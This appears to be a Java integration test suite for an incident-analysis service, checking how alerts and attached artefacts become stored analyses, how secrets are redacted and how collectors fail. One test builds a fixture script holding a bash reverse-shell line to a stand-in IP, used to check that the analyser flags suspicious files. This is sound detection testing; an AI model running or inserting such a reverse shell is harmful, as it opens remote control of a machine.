package dev.serai.hub.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpServer;
import dev.serai.analysis.Content;
import dev.serai.analysis.EvidenceKind;
import dev.serai.analysis.Observation;
import dev.serai.hub.HubIT;
import dev.serai.hub.db.Ids;
import dev.serai.hub.job.JobQueue;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicReference;
import org.apache.camel.CamelContext;
import org.apache.camel.ProducerTemplate;
import org.apache.camel.builder.RouteBuilder;
import org.apache.camel.support.PluginHelper;
import org.apache.camel.support.ResourceHelper;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;

/** From a stored incident to its stored analysis, without a model. */
@HubIT
class PatternAnalysisIT {

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    JobQueue jobs;

    @Autowired
    ProducerTemplate template;

    @Autowired
    CamelContext camel;

    @Autowired
    PlatformTransactionManager transactions;

    /** Sessions that wait for a row; what they wait with is not told to the hub's role. */
    private static final String WAITING =
            "select count(distinct l.pid) from pg_locks l join pg_stat_activity s using (pid)"
                    + " where not l.granted and s.datname = current_database()";

    private final UUID incident = Ids.next();

    @BeforeEach
    void openIncident() {
        Incidents.open(jdbc, incident);
    }

    @Test
    void an_incident_is_analysed_from_its_alert_and_everything_is_recorded() {
        UUID alert = Incidents.alert(jdbc, incident, "pod orders-1 OOMKilled; db password=hunter22");

        analyse();
        awaitAnalyses(1);

        Map<String, Object> row = analyses().get(0);
        assertThat(row).containsEntry("analyst", "patterns").containsEntry("reason", "PATTERNS_MATCHED");
        assertThat(row.get("summary").toString()).contains("ran out of memory").doesNotContain("hunter22");
        Map<String, Object> evidence = jdbc.queryForMap("select * from evidence where incident_id = ?", incident);
        assertThat(evidence).containsEntry("alert_id", alert).containsEntry("kind", "event");
        assertThat(evidence.get("excerpt").toString())
                .contains("OOMKilled", "label alertname = OrdersFail", "password=[redacted:secret]")
                .doesNotContain("hunter22");
        assertThat(row.get("causes").toString()).contains(evidence.get("id").toString(), "\"cited\": true");
        assertThat(jdbc.queryForList(
                        "select kind || ' ' || reason from incident_event where incident_id = ? and kind = 'incident.analysed'",
                        String.class,
                        incident))
                .containsExactly("incident.analysed PATTERNS_MATCHED");
        assertThat(jdbc.queryForObject(
                        "select count(*) from audit_event where object_id = ? and verb = 'incident.analysed'",
                        Integer.class,
                        incident.toString()))
                .isEqualTo(1);
    }

    @Test
    void nothing_known_is_said_plainly() {
        Incidents.alert(jdbc, incident, "the orders page looks odd");

        analyse();
        awaitAnalyses(1);

        assertThat(analyses().get(0))
                .containsEntry("reason", "NO_KNOWN_PATTERN")
                .extracting("causes")
                .hasToString("[]");
    }

    @Test
    void a_repeated_job_changes_nothing_and_new_evidence_is_analysed_again() {
        Incidents.alert(jdbc, incident, "connection refused");
        analyse();
        awaitAnalyses(1);

        analyseNow();
        assertThat(analyses()).hasSize(1);

        store(Observation.ofAction(Ids.next(), EvidenceKind.LOG, "action:test", "x509: certificate has expired"));
        analyseNow();

        assertThat(analyses()).hasSize(2);
        assertThat(analyses().get(1).get("causes").toString()).contains("TLS certificate", "Nothing listens");
        assertThat(timeline()).contains("NEW_EVIDENCE");
    }

    @Test
    void of_two_analyses_that_end_at_once_one_is_stored() {
        Incidents.alert(jdbc, incident, "connection refused");
        ExecutorService threads = Executors.newFixedThreadPool(2);
        List<Future<?>> both = new TransactionTemplate(transactions).execute(held -> {
            jdbc.queryForList("select id from incident where id = ? for no key update", incident);
            List<Future<?>> begun = List.of(threads.submit(this::analyseAsJob), threads.submit(this::analyseAsJob));
            await().until(() -> jdbc.queryForObject(WAITING, Integer.class) >= 2);
            return begun;
        });
        threads.shutdown();

        assertThat(both).allSatisfy(one -> assertThat(one).succeedsWithin(Duration.ofMinutes(2)));
        assertThat(analyses()).hasSize(1);
    }

    @Test
    void an_attached_file_is_looked_at() {
        byte[] script = ("#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n" + "QUJD".repeat(200))
                .getBytes(StandardCharsets.UTF_8);
        store(new Observation(
                EvidenceKind.ARTEFACT, "artefact:test", "", new Content(script, "text/plain"), null, null));

        analyseNow();

        String look = jdbc.queryForObject(
                "select excerpt from evidence where incident_id = ? and source like 'artefact-look:%'",
                String.class, incident);
        assertThat(look).contains("type by content: script", "encoded run of 800 characters", "entropy: ");
        assertThat(analyses().get(0).get("causes").toString()).contains("run further code", "encoded layers");
    }

    @Test
    void the_past_is_evidence_but_not_mistaken_for_the_present() {
        String workload = "past-" + incident;
        UUID before = Incidents.open(jdbc, Ids.next(), workload, "now() - interval '3 days'");
        Incidents.alert(jdbc, before, "OOMKilled");
        analyse(before);
        jdbc.update("update incident set workload = ? where id = ?", workload, incident);
        UUID alert = Incidents.alert(jdbc, incident, "the orders page looks odd");
        jdbc.update("update alert set episode = 2 where id = ?", alert);
        jdbc.update(
                "insert into alert_event (id, tenant, alert_id, episode, kind, starts_at, at) "
                        + "values (?, 'default', ?, 1, 'fired', now(), now())",
                Ids.next(),
                alert);

        analyseNow();

        assertThat(jdbc.queryForList(
                        "select excerpt from evidence where incident_id = ? and source like 'history:%' order by source",
                        String.class, incident))
                .satisfiesExactly(
                        episodes -> assertThat(episodes).contains("episode 1 fired at"),
                        similar -> assertThat(similar).contains("Something broke", "ran out of memory"));
        assertThat(analyses().get(0)).containsEntry("reason", "NO_KNOWN_PATTERN");
    }

    @Test
    void a_collector_that_fails_or_hangs_is_noted_and_does_not_stop_the_others() throws Exception {
        Incidents.alert(jdbc, incident, "no space left on device");
        camel.addRoutes(new RouteBuilder() {
            @Override
            public void configure() {
                from("direct:tool-test-fails")
                        .routeId("tool-test-fails")
                        .routeGroup(Collectors.GROUP)
                        .throwException(new IllegalStateException("no luck"));
                from("direct:tool-test-hangs")
                        .routeId("tool-test-hangs")
                        .routeGroup(Collectors.GROUP)
                        .delay(8_000);
            }
        });
        try {
            analyseNow();
        } finally {
            for (String route : List.of("tool-test-fails", "tool-test-hangs")) {
                camel.getRouteController().stopRoute(route, 1, java.util.concurrent.TimeUnit.SECONDS);
                camel.removeRoute(route);
            }
        }

        assertThat(analyses()).hasSize(1);
        assertThat(analyses().get(0).get("causes").toString()).contains("disk");
        assertThat(timeline())
                .contains("direct://tool-test-fails", "IllegalStateException", "direct://tool-test-hangs", "TIMEOUT");
    }

    @Test
    void the_documents_own_collector_works_and_tells_the_outside_nothing_of_the_hub() throws Exception {
        Incidents.alert(jdbc, incident, "the orders page looks odd");
        AtomicReference<Set<String>> headers = new AtomicReference<>();
        HttpServer service = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        service.createContext("/latest", request -> {
            headers.set(request.getRequestHeaders().keySet());
            byte[] answer = "[{\"id\": \"d-7\", \"service\": \"orders\", \"version\": \"4.2\"}]"
                    .getBytes(StandardCharsets.UTF_8);
            request.sendResponseHeaders(200, answer.length);
            request.getResponseBody().write(answer);
            request.close();
        });
        service.start();
        String text = Files.readString(Path.of("docs/concepts/analysis.md"));
        String example = text.substring(text.indexOf("- route:"), text.indexOf("```", text.indexOf("- route:")));
        String here = "http://127.0.0.1:" + service.getAddress().getPort();
        try {
            PluginHelper.getRoutesLoader(camel)
                    .loadRoutes(ResourceHelper.fromString(
                            "tool-deployments.camel.yaml", example.replace("https://deployments.example.com", here)));
            analyseNow();
        } finally {
            service.stop(0);
            camel.getRouteController().stopRoute("tool-deployments");
            camel.removeRoute("tool-deployments");
        }

        assertThat(jdbc.queryForMap(
                        "select kind, excerpt from evidence where incident_id = ? and source = 'deployment:d-7'",
                        incident))
                .containsEntry("kind", "document")
                .containsEntry("excerpt", "orders runs 4.2");
        assertThat(headers.get()).doesNotContainAnyElementsOf(List.of("Tenant", "Incidentid", "Actor"));
    }

    @Test
    void a_collector_that_answers_no_observations_has_failed() throws Exception {
        Incidents.alert(jdbc, incident, "no space left on device");
        camel.addRoutes(new RouteBuilder() {
            @Override
            public void configure() {
                from("direct:tool-test-odd")
                        .routeId("tool-test-odd")
                        .routeGroup(Collectors.GROUP)
                        .setBody(exchange -> List.of(Map.of("kind", "rumour", "source", "x", "text", "y")));
            }
        });
        try {
            analyseNow();
        } finally {
            camel.getRouteController().stopRoute("tool-test-odd");
            camel.removeRoute("tool-test-odd");
        }
        assertThat(timeline()).contains("direct://tool-test-odd", "NO_OBSERVATIONS");
    }

    @Test
    void an_incident_that_is_over_or_unknown_is_left_alone() {
        jdbc.update("update incident set state = 'resolved' where id = ?", incident);
        analyseNow();
        analyse(Ids.next());

        assertThat(analyses()).isEmpty();
    }

    private void analyse() {
        jobs.schedule(JobQueue.JobRequest.now("analyse", "default", Map.of("incidentId", incident.toString())));
    }

    private void analyseNow() {
        analyse(incident);
    }

    /** Again where a lock was waited for too long, as on a machine where the other one begins late. */
    private void analyseAsJob() {
        await().ignoreExceptions().until(() -> {
            analyseNow();
            return true;
        });
    }

    /** What the job does, at once and in this thread. */
    private void analyse(UUID id) {
        Analyses.run(template, id);
    }

    private void store(Observation seen) {
        template.requestBodyAndHeaders(
                "direct:evidence-store", List.of(seen), Map.of("tenant", "default", "incidentId", incident.toString()));
    }

    private void awaitAnalyses(int count) {
        await().until(() -> analyses().size() == count);
    }

    private List<Map<String, Object>> analyses() {
        return Analyses.of(jdbc, incident);
    }

    private String timeline() {
        return Analyses.timeline(jdbc, incident);
    }
}
